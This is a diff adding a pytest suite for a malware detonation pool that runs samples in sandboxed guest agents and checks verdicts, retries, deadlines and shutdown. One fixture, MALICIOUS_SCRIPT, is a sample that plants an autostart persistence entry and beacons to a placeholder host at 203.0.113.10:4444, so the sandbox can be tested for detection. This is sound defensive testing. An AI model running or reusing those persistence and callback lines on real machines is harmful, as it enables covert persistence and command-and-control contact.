@@ -1,0 +1,380 @@
+"""The detonation pool on the real process backend: pre-warming, verdicts, retries, deadlines, shutdown.
+
+Every pool here runs real guest agents (``python -m mailvm.guest.agent``) on
+/dev/shm pages, and the samples run inside the agent's bubblewrap sandbox.
+The ``pools`` fixture closes every pool it made and then checks that no agent
+process, page file or slot directory of the test is left.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import hashlib
+import json
+import logging
+import os
+import signal
+import time
+from pathlib import Path
+
+import pytest
+
+from mailvm.config import PoolConfig, ScanTableConfig
+from mailvm.scantable import ScanTable
+from mailvm.verdict import CLEAN, DONE, ERROR, MALICIOUS, Finding
+from mailvm.vmpool.backends import BACKENDS
+from mailvm.vmpool.backends.base import BackendUnavailable
+from mailvm.vmpool.backends.process import ProcessBackend
+from mailvm.vmpool.pool import STATUS_FILE, Job, Pool, max_file_bytes, read_status
+from mailvm.vmpool.select import make_backend
+
+MiB = 1024 * 1024
+
+BENIGN = "#!/bin/sh\necho 'hello from a harmless script'\n"
+MALICIOUS_SCRIPT = """#!/bin/sh
+mkdir -p "$HOME/.config/autostart"
+printf '[Desktop Entry]\\nType=Application\\nName=updater\\nExec=/tmp/.updater\\n' > "$HOME/.config/autostart/evil.desktop"
+python3 -c 'import socket; s = socket.create_connection(("203.0.113.10", 4444), timeout=5); s.sendall(b"HELLO bot\\n"); s.close()'
+"""
+SLEEPER = "#!/bin/sh\nsleep 40\necho woke\n"
+
+pytestmark = pytest.mark.sandbox
+
+
+def _sandbox_reason() -> str | None:
+    return ProcessBackend.probe(PoolConfig())
+
+
+@pytest.fixture(autouse=True)
+def _need_sandbox():
+    reason = _sandbox_reason()
+    if reason:
+        pytest.skip(f"process backend cannot run here: {reason}")
+
+
+@pytest.fixture
+def cfg(tmp_path: Path) -> PoolConfig:
+    return PoolConfig(
+        backend="process",
+        slots=2,
+        work_dir=str(tmp_path / "pool"),
+        page_bytes=8 * MiB,
+        max_result_bytes=1 * MiB,
+        job_timeout_s=20.0,
+        idle_s=0.5,
+        heartbeat_timeout_s=5.0,
+        ready_timeout_s=30.0,
+    )
+
+
+@pytest.fixture
+def table(tmp_path: Path):
+    t = ScanTable(ScanTableConfig(path=str(tmp_path / "table")))
+    yield t
+    t.close()
+
+
+def agent_processes(work_dir: str) -> list[int]:
+    """Live processes whose command line mentions ``work_dir`` (the agents of one pool)."""
+    found = []
+    for name in os.listdir("/proc"):
+        if not name.isdigit():
+            continue
+        try:
+            cmd = Path(f"/proc/{name}/cmdline").read_bytes()
+            st = Path(f"/proc/{name}/stat").read_text()
+        except OSError:
+            continue
+        if work_dir.encode() in cmd and st[st.rfind(")") + 2] != "Z":
+            found.append(int(name))
+    return found
+
+
+def page_files() -> list[str]:
+    """This test process's page files (slot ids start with our pid)."""
+    return sorted(p for p in os.listdir("/dev/shm") if p.startswith(f"mailvm-{os.getpid()}-"))
+
+
+@pytest.fixture
+def pools(cfg: PoolConfig, table: ScanTable):
+    """``pools(**overrides)`` -> a started Pool on the process backend; all closed and checked at teardown."""
+    made: list[Pool] = []
+
+    def make(with_table: bool = True, **over) -> Pool:
+        c = dataclasses.replace(cfg, **over)
+        pool = Pool(c, ProcessBackend(c), table if with_table else None)
+        made.append(pool)
+        pool.start()
+        return pool
+
+    yield make
+    for pool in made:
+        pool.close()
+    for pool in made:
+        assert agent_processes(pool.cfg.work_dir) == []
+        assert not list(Path(pool.cfg.work_dir).glob("slot-*"))
+    assert page_files() == []
+
+
+def make_job(tmp_path: Path, name: str, text: str, owner: str = "", **kw) -> Job:
+    data = text.encode()
+    path = tmp_path / "spool" / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_bytes(data)
+    return Job(
+        sha256=hashlib.sha256(data).hexdigest(),
+        path=str(path),
+        name=name,
+        type="text/x-shellscript",
+        kind="script",
+        owner=owner,
+        **kw,
+    )
+
+
+def wait_for(pred, timeout: float, what: str):
+    end = time.monotonic() + timeout
+    while time.monotonic() < end:
+        value = pred()
+        if value:
+            return value
+        time.sleep(0.02)
+    raise AssertionError(f"timed out waiting for {what}")
+
+
+def running_slot(pool: Pool, attempt: int) -> dict:
+    """The busy slot whose job is RUNNING in its ``attempt``-th slot."""
+    def find():
+        for s in pool.status()["busy_slots"]:
+            if s["attempt"] == attempt and s["stage"] == "running":
+                return s
+        return None
+
+    return wait_for(find, 30, f"a running job on attempt {attempt}")
+
+
+# --------------------------------------------------------------------------- pre-warm and verdicts
+
+
+def test_prewarms_the_configured_slots(pools):
+    pool = pools()
+    assert pool.wait_warm(30)
+    st = pool.status()
+    assert st["slots"]["ready"] == 2 and st["slots"]["busy"] == 0
+    assert st["slot_events"]["created"] >= 2
+    assert st["refill_ms"]["n"] >= 2 and st["refill_ms"]["median"] > 0
+    assert len(page_files()) == 2
+
+
+def test_benign_script_is_clean(pools, tmp_path):
+    pool = pools()
+    assert pool.wait_warm(30)
+    job = make_job(tmp_path, "hello.sh", BENIGN)
+    v = pool.detonate(job, timeout=60)
+    assert v.verdict == CLEAN, v
+    assert v.source == "detonation" and v.slot
+    assert not any(f.id == "slot_failed" for f in v.findings)
+    assert v.log[0] == {"type": "kind", "kind": "script"}
+    run = v.log[1]
+    assert run["type"] == "run" and run["handover_ms"] > 0 and run["failed"] is False
+
+
+def test_malicious_script_is_published_to_the_table(pools, table, tmp_path):
+    pool = pools()
+    owner = "test:malicious"
+    job = make_job(tmp_path, "update.sh", MALICIOUS_SCRIPT, owner=owner,
+                   static_findings=[Finding("script_shebang", 1, "shell script", "triage")])
+    assert table.claim(job.sha256, owner).won
+    v = pool.detonate(job, timeout=60)
+    assert v.verdict == MALICIOUS, v
+    assert v.score >= 7
+    ids = {f.id for f in v.findings}
+    assert "script_shebang" in ids  # static findings are part of the verdict
+    stored = table.get(job.sha256)
+    assert stored is not None and stored.state == DONE
+    assert stored.verdict == MALICIOUS and stored.score == v.score
+    assert {f.id for f in stored.findings} == ids
+    details = " ".join(f.detail for f in v.findings)
+    assert "203.0.113.10" in details or "autostart" in details
+
+
+def test_four_jobs_on_two_slots_all_complete(pools, tmp_path):
+    pool = pools()
+    jobs = [make_job(tmp_path, f"n{i}.sh", f"#!/bin/sh\necho job {i}\n") for i in range(4)]
+    futs = [pool.submit(j) for j in jobs]
+    verdicts = [f.result(timeout=120) for f in futs]
+    assert [v.verdict for v in verdicts] == [CLEAN] * 4, verdicts
+    slots = {v.slot for v in verdicts}
+    assert len(slots) == 4  # one job per slot: every slot is fresh
+    st = pool.status()
+    assert st["jobs"]["done"] == 4 and st["jobs"]["failed"] == 0
+    assert st["handover_ms"]["n"] == 4 and st["run_s"]["n"] == 4
+    assert st["slot_events"]["created"] >= 4
+
+
+# --------------------------------------------------------------------------- slot failures
+
+
+def test_killed_slot_is_retried_once_then_slot_failed(pools, table, tmp_path):
+    pool = pools(retries=1)
+    owner = "test:killed"
+    job = make_job(tmp_path, "sleeper.sh", SLEEPER, owner=owner)
+    assert table.claim(job.sha256, owner).won
+    fut = pool.submit(job)
+    first = running_slot(pool, attempt=1)
+    os.killpg(first["pid"], signal.SIGKILL)
+    second = running_slot(pool, attempt=2)
+    assert second["id"] != first["id"]
+    os.killpg(second["pid"], signal.SIGKILL)
+    v = fut.result(timeout=60)
+    assert v.verdict == ERROR
+    failed = [f for f in v.findings if f.id == "slot_failed"]
+    assert len(failed) == 1
+    assert first["id"] in failed[0].detail and second["id"] in failed[0].detail
+    st = pool.status()
+    assert st["jobs"]["retried"] == 1 and st["slot_events"]["failed"] == 2
+    stored = table.get(job.sha256)  # a finished (failed) detonation is published
+    assert stored is not None and stored.verdict == ERROR
+
+
+def test_killed_slot_then_the_retry_delivers_the_result(pools, tmp_path):
+    pool = pools(retries=1)
+    job = make_job(tmp_path, "nap.sh", "#!/bin/sh\nsleep 2\necho rested\n")
+    fut = pool.submit(job)
+    first = running_slot(pool, attempt=1)
+    os.killpg(first["pid"], signal.SIGKILL)
+    v = fut.result(timeout=90)
+    assert v.verdict == CLEAN, v
+    assert v.slot != first["id"]
+    assert pool.status()["jobs"]["retried"] == 1
+
+
+# --------------------------------------------------------------------------- deadlines, limits, close
+
+
+def test_job_queued_past_its_deadline_times_out_and_releases_its_claim(pools, table, tmp_path):
+    pool = pools(slots=1)
+    busy = pool.submit(make_job(tmp_path, "busy.sh", SLEEPER))
+    running_slot(pool, attempt=1)
+    owner = "test:late"
+    job = make_job(tmp_path, "late.sh", BENIGN, owner=owner, deadline=time.monotonic() + 1.0)
+    assert table.claim(job.sha256, owner).won
+    t0 = time.monotonic()
+    v = pool.submit(job).result(timeout=30)
+    assert time.monotonic() - t0 < 10
+    assert v.verdict == ERROR
+    timed = [f for f in v.findings if f.id == "timed_out"]
+    assert timed and "queued too long" in timed[0].detail
+    assert table.get(job.sha256) is None  # released, not published
+    assert table.claim(job.sha256, "someone-else").won  # the next message may try again
+    assert pool.status()["jobs"]["timed_out_queued"] == 1
+    pool.close()
+    closed = busy.result(timeout=5)
+    assert closed.verdict == ERROR and closed.findings[-1].id == "pool_closed"
+
+
+def test_file_larger_than_the_page_is_refused_without_a_slot(pools, tmp_path, cfg):
+    pool = pools()
+    big = tmp_path / "big.bin"
+    limit = max_file_bytes(cfg)
+    with open(big, "wb") as f:
+        f.truncate(limit + 1)
+    job = Job(hashlib.sha256(b"big").hexdigest(), str(big), "big.bin", "application/octet-stream", "unknown")
+    v = pool.submit(job).result(timeout=5)
+    assert v.verdict == ERROR and [f.id for f in v.findings] == ["file_too_large"]
+    assert pool.status()["handover_ms"]["n"] == 0
+
+
+def test_close_kills_every_slot_and_fails_queued_jobs(pools, tmp_path):
+    pool = pools(slots=1)
+    running = pool.submit(make_job(tmp_path, "run.sh", SLEEPER))
+    running_slot(pool, attempt=1)
+    queued = pool.submit(make_job(tmp_path, "q.sh", BENIGN))
+    wait_for(lambda: pool.status()["slots"]["ready"] == 1, 30, "a refilled slot")
+    assert len(agent_processes(pool.cfg.work_dir)) >= 2
+    t0 = time.monotonic()
+    pool.close()
+    assert time.monotonic() - t0 < 15
+    for fut in (running, queued):
+        v = fut.result(timeout=1)
+        assert v.verdict == ERROR and any(f.id == "pool_closed" for f in v.findings)
+    assert agent_processes(pool.cfg.work_dir) == []
+    assert page_files() == []
+    assert not list(Path(pool.cfg.work_dir).glob("slot-*"))
+    pool.close()  # idempotent
+    late = pool.submit(make_job(tmp_path, "after.sh", BENIGN)).result(timeout=1)
+    assert late.findings[-1].id == "pool_closed"
+    assert read_status(pool.cfg.work_dir)["state"] == "closed"
+
+
+# --------------------------------------------------------------------------- status
+
+
+def test_status_and_status_json(pools, tmp_path):
+    pool = pools()
+    assert pool.wait_warm(30)
+    v = pool.detonate(make_job(tmp_path, "s.sh", BENIGN), timeout=60)
+    assert v.verdict == CLEAN
+    st = pool.status()
+    assert st["pid"] == os.getpid() and st["state"] == "running"
+    assert st["backend"]["name"] == "process" and st["backend"]["accel"] == "none"
+    assert "weak" in st["backend"]["isolation"]
+    assert st["slots"]["target"] == 2
+    assert st["queue"] == 0
+    assert st["jobs"]["submitted"] == 1 and st["jobs"]["done"] == 1
+    assert st["jobs"]["verdicts"][CLEAN] == 1
+    ho = st["handover_ms"]
+    assert ho["n"] == 1 and ho["last"] == ho["median"] == ho["p95"] > 0
+    assert st["run_s"]["last"] > 0
+    # status.json follows within a couple of seconds and is complete JSON
+    path = Path(pool.cfg.work_dir) / STATUS_FILE
+
+    def fresh():
+        data = read_status(pool.cfg.work_dir)
+        return data if data and data["jobs"]["done"] == 1 else None
+
+    data = wait_for(fresh, 5, "status.json with the finished job")
+    assert data["pid"] == os.getpid()
+    assert abs(data["updated_at"] - time.time()) < 10
+    assert data["backend"]["name"] == "process"
+    assert json.loads(path.read_text()) == data
+    assert not [p for p in path.parent.iterdir() if p.name.startswith(".status-")]
+
+
+# --------------------------------------------------------------------------- backend selection
+
+
+def test_make_backend_explicit_and_auto(cfg):
+    assert isinstance(make_backend(dataclasses.replace(cfg, backend="process")), ProcessBackend)
+    auto = make_backend(dataclasses.replace(cfg, backend="auto"))
+    qemu = BACKENDS.get("qemu")
+    if qemu is not None and qemu.probe(cfg) is None:
+        assert auto.name == "qemu"
+    else:
+        assert isinstance(auto, ProcessBackend)
+
+
+def test_make_backend_refuses_unknown_and_unregistered_names(cfg):
+    with pytest.raises(BackendUnavailable, match="unknown backend 'vmware'"):
+        make_backend(dataclasses.replace(cfg, backend="vmware"))
+    with pytest.raises(BackendUnavailable, match="xen"):  # valid name, but not here: never a fallback
+        make_backend(dataclasses.replace(cfg, backend="xen"), registry={"process": ProcessBackend})
+    with pytest.raises(BackendUnavailable, match="no backend can run here"):
+        make_backend(dataclasses.replace(cfg, backend="auto"), registry={})
+
+
+def test_qemu_that_cannot_run_falls_back_to_process_loudly(cfg, caplog):
+    with caplog.at_level(logging.WARNING, logger="mailvm.vmpool.select"):
+        b = make_backend(dataclasses.replace(cfg, backend="qemu"), registry={"process": ProcessBackend})
+    assert isinstance(b, ProcessBackend)
+    assert any("FALLING BACK" in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)
+
+
+def test_probe_reason_is_reported_when_the_chosen_backend_cannot_run(cfg, monkeypatch, tmp_path):
+    empty = tmp_path / "empty-bin"
+    empty.mkdir()
+    monkeypatch.setenv("PATH", str(empty))  # bwrap, strace and ip are not found
+    with pytest.raises(BackendUnavailable, match="missing tools: bwrap"):
+        make_backend(dataclasses.replace(cfg, backend="process"))
+    with pytest.raises(BackendUnavailable, match="fallback 'process' cannot either"):
+        make_backend(dataclasses.replace(cfg, backend="qemu"), registry={"process": ProcessBackend})
